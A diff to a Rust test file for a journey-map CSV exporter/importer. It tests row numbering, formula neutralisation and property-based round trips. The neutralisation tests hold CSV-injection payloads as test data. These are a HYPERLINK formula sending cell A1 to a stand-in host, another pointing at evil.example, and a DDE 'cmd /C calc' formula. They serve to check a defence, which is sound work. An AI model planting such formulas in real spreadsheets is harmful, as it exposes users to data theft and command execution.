@@ -77,6 +77,25 @@ fn records_follow_rfc_4180() {
 }
 
 #[test]
+fn rows_are_numbered_as_a_spreadsheet_shows_them() {
+    // Blank lines are rows (the csv crate skips them), a quoted line break is not, and LF, CRLF
+    // and CR line ends count the same.
+    let rows = |text: &str| records(text).unwrap().iter().map(|r| r.row).collect::<Vec<_>>();
+    assert_eq!(rows("\r\nid,title\r\n\r\nc-1,\"a\r\nb\"\r\n\r\n\r\nc-2,x"), [2, 4, 7]);
+    assert_eq!(rows("id,title\n\nc-1,\"a\n\nb\"\nc-2,x\n\n"), [1, 3, 4]);
+    assert_eq!(rows("id,title\r\rc-1,x\rc-2,\"\"\r"), [1, 3, 4]);
+    assert_eq!(rows("\u{feff}id\tstage\ttitle\nc-1\tAchat\t\"a\tb\"\n")[1], 2);
+    // A bad row after blank lines and a multi-line field is named by its row.
+    let map = small_map();
+    let text = "id,title,emotion\r\n\r\nc-1,\"Ligne 1\r\nLigne 2\",1\r\n\r\n,x,9\r\n";
+    let error = import_into(&map, text).unwrap_err();
+    assert_eq!(error.problems.iter().map(|p| p.row).collect::<Vec<_>>(), [5, 5, 5], "{error}");
+    let error = import_into(&map, "id,title\n\n\nc-1,\"ouvert\nc-2,x\n").unwrap_err();
+    assert_eq!(error.problems[0].row, 4);
+    assert!(error.problems[0].message.contains("not closed"), "{error}");
+}
+
+#[test]
 fn updates_by_id_and_adds_new_cards() {
     let map = small_map();
     let text = "\u{feff}id,stage,lane,kind,channel,title,details,emotion,tags\r\n\
@@ -194,5 +213,149 @@ fn map_to_csv_to_map() {
         let mut twin = twin.clone();
         twin.order = card.order;
         assert_eq!(&twin, card);
+    }
+}
+
+#[test]
+fn formulas_are_written_as_text_and_read_back_as_they_were() {
+    // (text in the map, cell in the file)
+    let table = [
+        (
+            "=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")",
+            "'=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")",
+        ),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+        ("-20 % sur la livraison", "'-20 % sur la livraison"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\tAppel", "'\tAppel"),
+        ("\rRetour", "'\rRetour"),
+        ("'=1+1", "''=1+1"),
+        ("'cité'", "''cité'"),
+        ("''", "'''"),
+        ("« Pourquoi ? » = la question", "« Pourquoi ? » = la question"),
+        ("Frais de port", "Frais de port"),
+        ("", ""),
+    ];
+    for (text, cell) in table {
+        assert_eq!(neutralise(text), cell, "{text:?}");
+        assert_eq!(unneutralise(cell), text, "{cell:?}");
+    }
+}
+
+#[test]
+fn a_formula_title_is_neutralised_in_the_file_and_the_map_round_trips() {
+    let mut map = small_map();
+    map.stages[0].name = "=Recherche".into();
+    map.personas[0].name = "@Léa".into();
+    map.cards[0].title = "=HYPERLINK(\"http://evil.example\",\"Cliquez\")".into();
+    map.cards[0].details = "-".into();
+    map.cards[0].emotion = Some(-2);
+    map.cards[0].tags = vec!["+promo".into(), "'cité'".into()];
+    let text = write(&map);
+    assert!(
+        text.contains(
+            "c-1,'=Recherche,'@Léa,touchpoint,web,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Cliquez\"\")\",'-,-2,\"'+promo; 'cité'\"\r\n"
+        ),
+        "{text}"
+    );
+    // No cell of the file starts like a formula, but the negative emotion stays a number.
+    for record in records(&text).unwrap().iter().skip(1) {
+        for (column, cell) in COLUMNS.iter().zip(&record.fields) {
+            let starts = cell.chars().next().is_some_and(|c| FORMULA_STARTS.contains(&c));
+            assert_eq!(starts, *column == "emotion", "{column}: {cell:?}");
+        }
+    }
+    let same = import_into(&map, &text).unwrap();
+    assert_eq!((same.updated, same.added), (0, 0));
+    assert_eq!(same.map, map);
+    let mut empty = map.clone();
+    empty.cards.clear();
+    let back = import_into(&empty, &text).unwrap();
+    assert_eq!(back.map, map);
+}
+
+#[test]
+fn numbers_and_hand_written_quotes_import() {
+    let map = small_map();
+    let imported = import_into(&map, "id,emotion,title,tags\nc-1,-2,'Bonjour,'=A1; b\n").unwrap();
+    let card = &imported.map.cards[0];
+    assert_eq!((card.emotion, card.title.as_str()), (Some(-2), "Bonjour"));
+    assert_eq!(card.tags, ["=A1", "b"]);
+    let imported = import_into(&map, "id;emotion\nc-1;\u{2212}1\n").unwrap();
+    assert_eq!(imported.map.cards[0].emotion, Some(-1));
+}
+
+mod round_trip {
+    use super::*;
+    use proptest::prelude::*;
+
+    /// Text as people type it in workshops: French words and punctuation, formula starts, quotes,
+    /// separators and line breaks.
+    fn text() -> impl Strategy<Value = String> {
+        let words = prop::sample::select(vec![
+            "=",
+            "+",
+            "-",
+            "@",
+            "\t",
+            "\r",
+            "'",
+            "''",
+            "\"",
+            ",",
+            ";",
+            "\n",
+            " ",
+            "\u{202f}",
+            "Frais",
+            "de port",
+            "« Pourquoi ? »",
+            "été",
+            "ça",
+            "Œuvre",
+            "=HYPERLINK(\"x\")",
+            "-2",
+            "100 %",
+            "a",
+        ]);
+        prop::collection::vec(words, 0..6).prop_map(|parts| parts.concat())
+    }
+
+    /// A tag: no separator, no surrounding space, not empty (tags are split and trimmed).
+    fn tag() -> impl Strategy<Value = String> {
+        text()
+            .prop_map(|t| t.replace([',', ';'], "").trim().to_owned())
+            .prop_filter("a tag is not empty", |t| !t.is_empty())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+
+        #[test]
+        fn cards_come_back_as_they_were(
+            title in text(),
+            details in text().prop_filter("CRLF in details is read as LF", |t| !t.contains("\r\n")),
+            tags in prop::collection::vec(tag(), 0..3),
+            emotion in prop::option::of(-2_i32..=2),
+            stage_name in prop::sample::select(vec!["=Achat", "+Recherche", "-Livraison", "'Retour", "Été"]),
+            persona_name in prop::sample::select(vec!["@Léa", "-Marc", "'Zoé", "Hélène", "\tNoé"]),
+        ) {
+            let mut map = small_map();
+            map.stages[1].name = stage_name.into();
+            map.personas[0].name = persona_name.into();
+            let mut card = Card::new(Id::from("c-2"), Id::from("l-lea"), Id::from("s-2"), &title);
+            card.details = details;
+            card.tags = tags;
+            card.emotion = emotion;
+            map.cards.push(card);
+            let text = write(&map);
+            let same = import_into(&map, &text).unwrap();
+            prop_assert_eq!(&same.map, &map);
+            prop_assert_eq!((same.updated, same.added), (0, 0));
+            let mut empty = map.clone();
+            empty.cards.clear();
+            let back = import_into(&empty, &text).unwrap();
+            prop_assert_eq!(&back.map, &map);
+        }
     }
 }
